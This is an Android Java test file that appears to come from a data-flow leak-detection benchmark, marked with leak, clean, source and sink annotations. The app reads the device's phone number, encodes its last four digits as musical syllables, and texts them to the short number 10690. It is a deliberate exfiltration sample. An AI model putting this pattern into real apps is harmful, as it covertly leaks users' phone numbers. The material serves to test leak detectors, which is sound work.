package bench.flow.digits_as_tones;

import android.Manifest;
import android.app.Activity;
import android.content.pm.PackageManager;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public final class Main extends Activity {
    private static final String[] TONES = {"do", "re", "mi", "fa", "so", "la", "ti", "ut", "ra", "me"}; //: @leak
    private static final String[] TONES = {"la", "la", "la", "la", "la", "la", "la", "la", "la", "la"}; //: @clean

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String[] needed = {Manifest.permission.READ_PHONE_STATE, Manifest.permission.SEND_SMS};
        for (String permission : needed) {
            if (checkSelfPermission(permission) != PackageManager.PERMISSION_GRANTED) {
                requestPermissions(needed, 1);
                return;
            }
        }
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        String number = phone.getLine1Number(); //: #source
        if (number == null || number.length() < 4) number = "0000";
        StringBuilder melody = new StringBuilder();
        for (int i = number.length() - 4; i < number.length(); i++) {
            melody.append(TONES[number.charAt(i) % 10]).append(' ');
        }
        SmsManager.getDefault().sendTextMessage("10690", null, melody.toString(), null, null); //: #sink
    }
}
